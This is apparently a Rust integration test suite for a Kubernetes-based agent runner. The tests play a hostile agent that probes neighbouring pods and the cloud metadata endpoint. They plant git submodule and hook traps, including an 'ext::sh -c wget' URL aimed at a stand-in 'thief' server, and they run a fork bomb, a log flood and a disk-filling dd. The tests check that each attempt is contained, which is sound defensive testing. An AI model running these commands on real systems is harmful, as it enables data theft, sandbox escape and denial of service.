//! An agent that misbehaves from inside its pod: it tries what lies around it, leaves traps behind, and takes all that it can get. Each try is
//! contained, its job's log says so, and the job beside it goes on.
//!
//! Nothing enforces NetworkPolicies on the test cluster. What only they keep an agent from is shown by evaluating the installed ones for the
//! very pods of the attack; and what answers there in spite of them answers nobody without a token or a ticket.

mod kube_hostile;

use anyhow::{Context as _, Result};
use ckrv_tests::git::git;
use ckrv_tests::kube::Installed;
use ckrv_tests::model::Model;
use ckrv_tests::repo::Repo;
use ckrv_tests::scene::{Scene, script_spec};
use ckrv_tests::server::Setup;
use ckrv_tests::wait::{PATIENCE, wait_until};
use ckrv_tests::{bench, traps};
use serde_json::Value;

use crate::kube_hostile::around::{Around, Metadata, is_closed};

/// Jobs of one installation, on a node with two processors; none writes more than `disk_mib`.
async fn scene(repo: Repo, disk_mib: u32) -> Result<Scene> {
    bench::always_in_cluster();
    let scratch = bench::kube_scratch()?.replace(":1", "");
    let config = format!(
        "[policy]\nallowed_images = ['localhost/ckrv/script', '{scratch}']\n\
         [policy.max_resources]\ncpu_millis = 250\nmemory_mib = 768\ndisk_mib = {disk_mib}\n"
    );
    Scene::with(Setup { config: config.parse()?, ..Setup::default() }, repo).await
}

/// Waits for the end of a job: its state, its record and its log.
async fn end_of(scene: &Scene, id: &str) -> Result<(String, Value, String)> {
    let state = scene.ckrv(&["wait", id]).await?.stdout.trim().to_owned();
    Ok((state, scene.job(id).await?, scene.ckrv(&["logs", id]).await?.ok()?))
}

/// It ended well, in its first attempt.
async fn unharmed(scene: &Scene, id: &str) -> Result<String> {
    let (state, job, log) = end_of(scene, id).await?;
    assert_eq!((state.as_str(), &job["attempt"]), ("succeeded", &1.into()), "{job}\n{log}\n{}", scene.server.log());
    Ok(log)
}

/// No container of the dispatchers was ever started again.
async fn dispatchers_stand(cluster: &Installed) -> Result<()> {
    let restarts = "jsonpath={.items[*].status.containerStatuses[*].restartCount}";
    let found = ckrv_tests::kube::kubectl(&["get", "pods", "--namespace", &cluster.namespace, "--output", restarts]).await?;
    anyhow::ensure!(found == "0", "the dispatchers were started again: {found:?}\n{}", cluster.log());
    Ok(())
}

#[tokio::test(flavor = "multi_thread")]
async fn an_agent_that_tries_what_lies_around_it_is_refused_by_name_and_the_job_beside_it_is_unharmed() -> Result<()> {
    let (metadata, scene) = (Metadata::start()?, scene(Repo::small(&[("README.md", "# A project\n")])?, 20480).await?);
    let (gate, attackers_gate) = (scene.gate(), scene.gate());
    let verify = "verify:\n  - test -s made.txt\n  - sleep 2";
    let neighbour = scene.submit_spec(&script_spec(verify, &format!("{}; echo made > made.txt", gate.wait()))).await?;
    gate.reached().await.with_context(|| scene.server.log())?;
    let cluster = scene.server.cluster()?;
    let around = Around::of(cluster, &neighbour).await?;
    let attack = around.attack(&attackers_gate.wait())?;
    let attacker = scene.submit_spec(&script_spec("", &attack)).await?;
    attackers_gate.reached().await.with_context(|| scene.server.log())?;
    around.judge(cluster, &attacker).await?;
    gate.open()?;
    // Another shim has to come in at the door that is under attack.
    let verifying = async || {
        let named = |pod: &&Value| pod["metadata"]["name"].as_str().is_some_and(|name| name.ends_with("-verify1"));
        cluster.pods("agent").await.ok()?.iter().find(named).cloned()
    };
    let pod = wait_until("the neighbour is verified", PATIENCE * 2, verifying).await?;
    // As much as the plan asked for, and not what policy would have allowed.
    assert_eq!(pod["spec"]["containers"][0]["resources"]["limits"]["ephemeral-storage"], "10Gi", "{pod}");
    unharmed(&scene, &neighbour).await?;
    attackers_gate.open()?;
    let log = unharmed(&scene, &attacker).await?;
    for target in around.through() {
        assert!(log.contains(&format!("through {target}: 403")), "{target}\n{log}");
        let refused = format!("the agent was refused a connection: {target} is not granted to this run");
        assert!(log.contains(&refused), "{refused}\n{log}");
    }
    assert!(log.contains("refused a connection: 169.254.169.254:80 was asked for without TLS"), "{log}");
    assert!(log.contains("no token"), "{log}");
    for url in around.guarded() {
        let answer = log.lines().find_map(|line| line.split_once(&format!("past {url}: "))).map(|(_, answer)| answer);
        assert!(answer.is_some_and(is_closed), "{url} answers {answer:?}\n{log}");
    }
    assert!(!log.contains("knock: let in") && log.contains("knock: "), "{log}");
    let past = metadata.was_not_asked_by_a_proxy()?;
    println!("the metadata service was asked past the proxy, which only a network plugin prevents: {past}");
    dispatchers_stand(cluster).await
}

/// A repository with submodules of these URLs.
fn with_submodules(urls: &[(&str, &str)]) -> Result<Repo> {
    let modules: String =
        urls.iter().map(|(name, url)| format!("[submodule \"{name}\"]\n\tpath = sub/{name}\n\turl = {url}\n")).collect();
    let repo = Repo::small(&[("README.md", "# A project\n"), (".gitmodules", &modules)])?;
    let (folder, head) = (tempfile::tempdir()?, repo.head()?);
    let clone = folder.path().join("clone");
    repo.clone_to(&clone, None)?;
    for (name, _) in urls {
        git(&clone, &["update-index", "--add", "--cacheinfo", &format!("160000,{head},sub/{name}")])?;
    }
    git(&clone, &["commit", "--quiet", "-m", "Submodules"])?;
    git(&clone, &["push", "--quiet", "origin", "HEAD:main"])?;
    Ok(repo)
}

#[tokio::test(flavor = "multi_thread")]
async fn traps_in_the_repository_and_in_what_an_agent_sends_back_catch_nobody_and_an_image_without_a_shell_is_told() -> Result<()>
{
    bench::always_in_cluster();
    let thief = Model::start([], None).await?;
    let url = thief.url("ok");
    let ext = format!("ext::sh -c wget% -q% -O-% {url}");
    let urls = [("ext", ext.as_str()), ("file", "file:///etc"), ("metadata", "http://169.254.169.254/latest")];
    let scene = scene(with_submodules(&urls)?, 256).await?;
    let bare = format!("image: {}", bench::kube_scratch()?);
    let bare = scene.submit_spec(&script_spec(&bare, "true")).await?;
    let verify = "verify:\n  - test ! -e .git/hooks/pre-commit\n  - git submodule update --init || true\n  - git status --short\n  - test ! -e absolute -a ! -e nested/.git\n  - test -L inside";
    let trapped = format!("git submodule update --init || true\n{}", traps::set(&format!("wget -q -O- {url}")));
    let trapped = scene.submit_spec(&script_spec(verify, &trapped)).await?;
    let log = unharmed(&scene, &trapped).await?;
    for (name, _) in urls {
        let refused = format!("left out of the checkout: `sub/{name}` is refused: it is a submodule, and those are not fetched");
        assert!(log.contains(&refused), "{refused}\n{log}");
    }
    for refused in traps::REFUSED {
        assert!(log.contains(refused), "{refused}\n{log}");
    }
    let diff = scene.ckrv(&["diff", &trapped]).await?.ok()?;
    for never in traps::NEVER_IN_THE_DIFF {
        assert!(!diff.contains(never), "{never} is in the diff:\n{diff}");
    }
    scene.ckrv(&["pull", &trapped]).await?.ok()?;
    git(&scene.project, &["commit", "--quiet", "-m", "Taken"])?;
    let files = git(&scene.project, &["ls-tree", "-r", "--name-only", "HEAD"])?;
    let files: Vec<_> = files.lines().filter(|file| !file.starts_with("sub/") && *file != ".gitmodules").collect();
    assert_eq!(files.join("\n"), traps::RESULT);
    let asked: Vec<_> = thief.requests().into_iter().map(|request| request.path).collect();
    assert!(asked.is_empty(), "a trap caught somebody: {asked:?}\n{log}");
    let (state, job, log) = end_of(&scene, &bare).await?;
    assert_eq!((state.as_str(), &job["attempt"]), ("failed", &1.into()), "{job}");
    assert!(log.contains("could not be started") && log.contains("no such program"), "{log}");
    Ok(())
}

#[tokio::test(flavor = "multi_thread")]
async fn an_agent_that_takes_all_it_can_get_harms_its_own_job_and_no_other() -> Result<()> {
    let scene = scene(Repo::small(&[("README.md", "# A project\n")])?, 256).await?;
    let cluster = scene.server.cluster()?;
    let gate = scene.gate();
    let neighbour = format!(
        "i=1; while [ ! -e /tmp/stop ]; do echo \"line $i\"; i=$((i+1)); sleep 0.2; done & {}; touch /tmp/stop; wait; echo made > made.txt",
        gate.wait()
    );
    let neighbour = scene.submit_spec(&script_spec("verify:\n  - test -s made.txt", &neighbour)).await?;
    gate.reached().await.with_context(|| scene.server.log())?;
    let bomb = scene.submit("busybox sh -c 'bomb() { bomb | bomb & }; bomb; while :; do sleep 1; done'").await?;
    // More than the log may hold, on both streams, as fast as they take it: an entry has its message twice.
    let flood = "flood() { yes \"$(head -c 8000 /dev/zero | tr '\\0' x)\" | head -c 25000000; }; flood & flood >&2; wait; echo all > said.txt";
    let flood = scene.submit(flood).await?;
    let disk = scene.submit("dd if=/dev/zero of=full bs=1M count=400; sleep 600").await?;

    let (state, job, log) = end_of(&scene, &disk).await?;
    assert_eq!((state.as_str(), &job["attempt"]), ("failed", &1.into()), "{job}\n{log}");
    assert!(log.contains("the agent's container wrote more than its disk limit allows"), "{log}");
    let (state, job, log) = end_of(&scene, &bomb).await?;
    assert_eq!((state.as_str(), &job["attempt"]), ("failed", &1.into()), "{job}\n{log}");
    assert!(log.contains("can't fork"), "{log}");
    let log = unharmed(&scene, &flood).await?;
    assert!(log.contains("the log has reached its limit of 64 MiB") && log.contains("entries beyond the log's limit"));
    gate.open()?;
    let log = unharmed(&scene, &neighbour).await?;
    let lines: Vec<usize> = log.lines().filter_map(|line| line.split_once("  line ")?.1.parse().ok()).collect();
    assert!(!lines.is_empty() && lines.iter().copied().eq(1..=lines.len()), "{lines:?}");
    dispatchers_stand(cluster).await
}
